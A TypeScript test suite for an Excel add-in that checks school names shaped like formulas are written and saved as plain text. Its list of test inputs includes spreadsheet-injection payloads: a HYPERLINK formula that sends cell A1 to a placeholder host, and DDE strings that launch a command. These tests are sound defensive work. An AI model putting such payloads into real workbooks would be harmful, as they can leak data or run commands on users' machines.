import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import fc from "fast-check";
import type { IWorkbookData } from "@univerjs/core";
import { unreadNumberRules } from "../../src/assessment/flags/unreadNumberRules";
import { textToWrite } from "../../src/excel/newSheet/textToWrite";
import { writeNewSheet } from "../../src/excel/writeNewSheet";
import { openWorkbookFile } from "../../src/preview/files/openWorkbookFile";
import { saveWorkbookFile } from "../../src/preview/files/saveWorkbookFile";
import type { SchoolTable } from "../../src/sheet/SchoolTable";
import { unzip } from "../preview/files/unzip";
import { excelSession } from "../support/excelSession";
import type { ExcelInNode } from "../support/officeInNode";

let excel: ExcelInNode | undefined;
afterEach(() => {
  excel?.dispose();
  excel = undefined;
});

/** Names that somebody could give a school to have a formula run in the bureau's workbook. */
const attacks = [
  '=HYPERLINK("https://balance.example.cn/?"&A1,"实验小学")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\t实验小学",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1＋1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  "#REF!",
  "{=1+1}",
  ";=1+1",
  "=",
  "+",
  "-",
  "@",
] as const;

/** Texts that begin like formulas far more often than chance has it. */
const schoolName = fc
  .tuple(
    fc.constantFrom("", " ", "\t", "\r", "\n", "'", "\u00a0", "\u200b", "\u3000"),
    fc.constantFrom("", "=", "+", "-", "@", "＝", "＋", "－", "＠", "'", "#", "=+", "@-"),
    fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.string({ unit: "binary", maxLength: 8 }),
      fc.constantFrom("1+1", "A1", "SUM(A1:A9)", 'HYPERLINK("x")', "实验小学", "cmd|' /C calc'!A0"),
    ),
  )
  .map((parts) => parts.join(""))
  // Half a sign is no text; Excel would not give it to us either.
  .filter((text) => text !== "" && !/\p{Cs}/u.test(text));

async function writtenAndRead(texts: readonly string[]) {
  excel = excelSession({ 小学: [["学校"]] });
  await Excel.run((context) =>
    writeNewSheet(context, { name: "汇总", rows: texts.map((text) => [text]) }),
  );
  return Excel.run(async (context) => {
    const range = context.workbook.worksheets
      .getItem("汇总")
      .getRangeByIndexes(0, 0, texts.length, 1);
    range.load("values,formulas,valueTypes");
    await context.sync();
    return {
      values: range.values.map(([value]) => value as unknown),
      formulas: range.formulas.map(([formula]) => formula as unknown),
      types: range.valueTypes.map(([type]) => type as string),
    };
  });
}

test("Excel as the preview plays it takes =, +, - and @ for a formula where nobody prevents it", async () => {
  excel = excelSession({ 小学: [["学校"]] });
  const formulas = await Excel.run(async (context) => {
    const range = context.workbook.worksheets.getItem("小学").getRange("A2:A5");
    range.values = [["=1+1"], ["+1+1"], ["-1+1"], ["@SUM(1)"]];
    range.load("formulas");
    await context.sync();
    return range.formulas.flat() as unknown[];
  });
  expect(formulas).toEqual(["=1+1", "=+1+1", "=-1+1", "=SUM(1)"]);
});

test("a school named like a formula is written as that name, for every name of the list", async () => {
  const { values, formulas, types } = await writtenAndRead(attacks);
  expect(values).toEqual(attacks);
  expect(formulas).toEqual(attacks);
  expect(types).toEqual(attacks.map(() => "String"));
});

test("3,000 names that begin like formulas stay texts, sign for sign", async () => {
  const names = fc.sample(schoolName, { numRuns: 3000, seed: 20260105 });
  const { values, types } = await writtenAndRead(names);
  expect(values).toEqual(names);
  expect(new Set(types)).toEqual(new Set(["String"]));
}, 120_000);

test("whatever the text, the first sign that is written is none that begins a formula", () => {
  fc.assert(
    fc.property(schoolName, (text) => {
      const written = textToWrite(text);
      expect([text, `'${text}`]).toContain(written);
      expect(written.replace(/^[\p{Z}\p{Cc}\p{Cf}]+/u, "")).not.toMatch(/^[=+\-@＝＋－＠]/u);
      expect(written).not.toMatch(/^[\t\r]/u);
    }),
    { numRuns: 20_000, seed: 20260105 },
  );
});

test("in the saved file, too, such a name is a text cell and no formula, and opens as it was", async () => {
  await writtenAndRead(attacks);
  const bytes = await saveWorkbookFile(
    excel!.univerAPI.getActiveWorkbook()!.save() as IWorkbookData,
  );
  const sheets = [...unzip(bytes)].filter(([path]) => path.startsWith("xl/worksheets/sheet"));
  expect(sheets).toHaveLength(2);
  for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[ >/]|<hyperlink/u);
  const { workbook } = await openWorkbookFile(bytes, "汇总.xlsx");
  const sheet = Object.values(workbook.sheets).find(({ name }) => name === "汇总")!;
  const cells = attacks.map((_, row) => sheet.cellData?.[row]?.[0]);
  expect(cells.map((cell) => cell?.f ?? null)).toEqual(attacks.map(() => null));
  // A file's lines end in line feeds alone: a carriage return comes back as one.
  const lines = (text: unknown): unknown =>
    typeof text === "string" ? text.replace(/\r/gu, "\n") : text;
  expect(cells.map((cell) => lines(cell?.v))).toEqual(attacks.map(lines));
});

test("a cell's text in the formula of a mark stays inside its quotation marks", () => {
  const shownTexts = [...attacks, '"', '""', '"&HYPERLINK("x")&"', '")+1+("', '\n"+1+"'];
  const table = {
    rows: [],
    unreadable: shownTexts.map((shown, row) => ({ row, column: 0, shown, reason: "date" })),
  } as unknown as SchoolTable;
  const bare = unreadNumberRules(table).map(({ formula }) =>
    formula.replace(/"(?:[^"]|"")*"/gu, "TEXT").replace(/A\d+/gu, "CELL"),
  );
  expect(new Set(bare).size).toBe(1);
  expect(bare[0]).toMatch(/\(CELL&TEXT=TEXT\)$/u);
});

test("no other place of the add-in writes into cells: who sets values or formulas goes through the one function", () => {
  const source = join(__dirname, "../../src");
  const files = (folder: string): string[] =>
    readdirSync(folder).flatMap((name) => {
      const path = join(folder, name);
      return statSync(path).isDirectory() ? files(path) : [path];
    });
  const setters = files(source)
    .filter((path) => !relative(source, path).startsWith("preview"))
    .filter((path) =>
      /\.(?:values|formulas|formulasLocal|formulasR1C1|valuesAsJson)\s*=(?!=)|\.setCellProperties\(/u.test(
        readFileSync(path, "utf8"),
      ),
    );
  expect(setters.length).toBeGreaterThan(0);
  const without = setters.filter(
    (path) => !/(?:textToWrite|contentToWrite)\(/u.test(readFileSync(path, "utf8")),
  );
  expect(without.map((path) => relative(source, path))).toEqual([]);
});
